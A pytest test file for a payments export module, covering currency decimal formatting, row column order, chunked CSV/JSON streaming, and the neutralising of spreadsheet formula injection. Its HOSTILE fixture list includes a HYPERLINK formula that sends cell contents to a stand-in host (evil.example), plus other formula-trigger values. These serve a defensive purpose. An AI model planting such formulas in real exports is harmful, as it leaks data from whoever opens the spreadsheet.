"""Export rows: amounts in the currency's own decimals, cells a spreadsheet never runs, CSV that parses back."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest

from domain.exports import (
    ADMIN_COLUMNS,
    CUSTOMER_COLUMNS,
    STATISTICS_COLUMNS,
    admin_row,
    csv_text,
    customer_row,
    neutral,
    statistics_row,
)
from domain.money import major
from usecases.exports import csv_chunks, json_chunks

#: Service names that a spreadsheet would run, or that break naive CSV.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-2",
    "@x",
    "\tcmd",
    "\rcmd",
    "a, b",
    'say "hi"',
    "two\nlines",
    "\r\n=1+1",
]


@pytest.mark.parametrize(
    ("amount", "currency", "shown"),
    [(49900, "INR", "499.00"), (500, "JPY", "500"), (1234, "KWD", "1.234"), (5, "usd", "0.05"), (0, "EUR", "0.00")],
)
def test_amounts_are_major_units_with_the_currency_s_decimals(amount: int, currency: str, shown: str) -> None:
    assert major(amount, currency) == shown


def payment(**fields: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "paymentId": "pi_1",
        "createdAt": datetime(2026, 11, 1, 10, 0, tzinfo=UTC),
        "serviceName": "Course",
        "serviceType": "course",
        "status": "completed",
        "currency": "INR",
        "amount": 49900,
        "amountRefunded": 0,
    }
    return {**doc, **fields}


def test_a_customer_row_has_its_columns_in_order() -> None:
    row = customer_row(payment(paidAt=datetime(2026, 11, 1, 10, 5, tzinfo=UTC), amountRefunded=10000))
    assert dict(zip(CUSTOMER_COLUMNS, row, strict=True)) == {
        "paymentId": "pi_1",
        "createdAt": "2026-11-01T10:00:00.000Z",
        "paidAt": "2026-11-01T10:05:00.000Z",
        "serviceName": "Course",
        "serviceType": "course",
        "status": "completed",
        "currency": "INR",
        "amount": "499.00",
        "amountRefunded": "100.00",
    }


def test_an_admin_row_adds_parties_refunds_disputes_and_reviews() -> None:
    doc = payment(
        currency="jpy",
        amount=500,
        customerId="c1",
        customerEmail="c@example.test",
        specialistId="s1",
        refunds=[{"id": "re_1"}, {"id": "re_2"}],
        dispute={"status": "needs_response"},
        reviewRequired={"reason": "amount_mismatch", "at": datetime(2026, 11, 2, tzinfo=UTC)},
    )
    row = dict(zip(ADMIN_COLUMNS, admin_row(doc), strict=True))
    assert (row["currency"], row["amount"], row["amountRefunded"]) == ("JPY", "500", "0")
    assert (row["customerId"], row["customerEmail"], row["specialistId"]) == ("c1", "c@example.test", "s1")
    assert (row["refunds"], row["disputeStatus"], row["reviewRequired"]) == ("2", "needs_response", "amount_mismatch")
    bare = dict(zip(ADMIN_COLUMNS, admin_row(payment(paidAt=None)), strict=True))
    assert (bare["paidAt"], bare["refunds"], bare["disputeStatus"], bare["reviewRequired"]) == ("", "0", "", "")


def test_a_statistics_row_is_in_major_units() -> None:
    row = {"month": "2026-11", "currency": "KWD", "count": 3, "gross": 4500, "refunded": 1234, "disputed": 0,
           "disputeLost": 10, "net": 3256}  # fmt: skip
    assert statistics_row(row) == ["2026-11", "KWD", "3", "4.500", "1.234", "0.000", "0.010", "3.256"]
    assert len(STATISTICS_COLUMNS) == len(statistics_row(row))


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_names_are_neutralised_and_quoted(name: str) -> None:
    """Each parses back as one cell; one a spreadsheet would run starts with ``'``, the rest are untouched."""
    text = csv_text([CUSTOMER_COLUMNS, customer_row(payment(serviceName=name))])
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert header == list(CUSTOMER_COLUMNS)
    cell = row[CUSTOMER_COLUMNS.index("serviceName")]
    runs = name[:1] in ("=", "+", "-", "@", "\t", "\r")
    assert cell == ("'" + name if runs else name)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_neutral_leaves_ordinary_text_alone() -> None:
    assert [neutral(c) for c in ("Course", "499.00", "2026-11-01", "", "a=b")] == [
        "Course",
        "499.00",
        "2026-11-01",
        "",
        "a=b",
    ]


class Cursor(Iterator[dict[str, Any]]):
    """A cursor that says when it was closed and how far it was read."""

    def __init__(self, docs: list[dict[str, Any]]) -> None:
        self.docs, self.read, self.closed = docs, 0, False

    def __next__(self) -> dict[str, Any]:
        if self.read == len(self.docs):
            raise StopIteration
        self.read += 1
        return self.docs[self.read - 1]

    def close(self) -> None:
        self.closed = True


def test_csv_chunks_read_one_batch_per_chunk_and_close_the_cursor() -> None:
    cursor = Cursor([payment(paymentId=f"pi_{i}") for i in range(25)])
    chunks = csv_chunks(cursor, CUSTOMER_COLUMNS, customer_row, rows=10)
    assert next(chunks).startswith("paymentId,") and cursor.read == 0
    assert next(chunks).count("\r\n") == 10 and cursor.read == 10
    rest = list(chunks)
    assert [c.count("\r\n") for c in rest] == [10, 5] and cursor.closed


def test_a_download_stopped_half_way_closes_the_cursor() -> None:
    cursor = Cursor([{"n": i} for i in range(25)])
    chunks = json_chunks(cursor, dict, rows=10)
    next(chunks), next(chunks)
    chunks.close()
    assert cursor.closed and cursor.read == 10


@pytest.mark.parametrize("count", [0, 1, 10, 21])
def test_json_chunks_make_one_document(count: int) -> None:
    cursor = Cursor([{"n": i, "name": "é\n\"'"} for i in range(count)])
    text = "".join(json_chunks(cursor, dict, rows=10))
    assert json.loads(text) == {"items": [{"n": i, "name": "é\n\"'"} for i in range(count)]}
